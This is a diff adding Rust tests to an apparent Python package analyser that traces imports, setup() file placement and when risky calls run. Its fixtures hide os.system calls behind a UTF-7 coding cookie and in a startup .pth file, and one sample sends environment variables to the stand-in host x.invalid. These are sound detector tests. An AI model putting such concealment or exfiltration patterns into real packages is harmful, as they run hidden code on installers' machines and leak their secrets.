@@ -546,6 +546,47 @@ fn folding_bombs_are_refused_before_they_are_computed() {
 }
 
 #[test]
+fn an_import_by_call_is_known_relative_to_its_module() {
+    for (call, module) in [
+        ("importlib.import_module('.tests.run', __package__)", "pkg.tests.run"),
+        ("importlib.import_module('..other', 'pkg.sub')", "other"),
+        ("importlib.import_module('.run', 'pkg.tests')", "pkg.tests.run"),
+        ("importlib.import_module(__package__ + '.tests.run')", "pkg.tests.run"),
+        ("importlib.import_module(f'{__name__}.run')", "pkg.module.run"),
+    ] {
+        let analysis = analysed(Role::Package, &format!("import importlib\n{call}\n"));
+        assert!(analysis.imports.iter().any(|import| import == module), "{call}: {:?}", analysis.imports);
+    }
+}
+
+#[test]
+fn what_a_setup_puts_elsewhere_is_told() {
+    use crate::Placed::{Command, Data, Package};
+    let sample = "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n\
+                  setup(package_dir={'x': 'tests', 'y': os.path.join(here, 'docs')}, scripts=['tools/run'],\n\
+                  data_files=[('lib', ['docs/x.pth'])])\n";
+    let placed = analysed(Role::Setup, sample).placed;
+    for wanted in [
+        Package("tests".to_owned()),
+        Package("docs".to_owned()),
+        Command("tools/run".to_owned()),
+        Data("docs/x.pth".to_owned()),
+    ] {
+        assert!(placed.contains(&wanted), "{placed:?}");
+    }
+}
+
+#[test]
+fn a_source_is_analysed_as_each_reader_has_it() {
+    let cookie = "# a\r# b\r# coding: utf-7\n# +AAo-import os+AAo-os.system('x')\n";
+    let analysis = analysed(Role::Setup, cookie);
+    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
+    let analysis = analysed(Role::Pth, "# coding: rot13\nimport os;os.system('x')\n/a\x0cimport os;os.remove('y')\n");
+    assert_eq!(call(&analysis, "os.system").phase, Phase::Startup);
+    assert_eq!(call(&analysis, "os.remove").phase, Phase::Startup);
+}
+
+#[test]
 fn the_same_source_gives_the_same_facts() {
     let sample = "import os, requests\nd = {k: os.getenv(k) for k in ['A', 'B', 'C']}\nrequests.post('http://x.invalid', json=d)\n\
                   class A:\n    def __init__(self, **k):\n        self.a = os.getenv('Z')\n        self.b = open('x').read()\n    def go(self):\n        requests.post('u', data=self)\n";
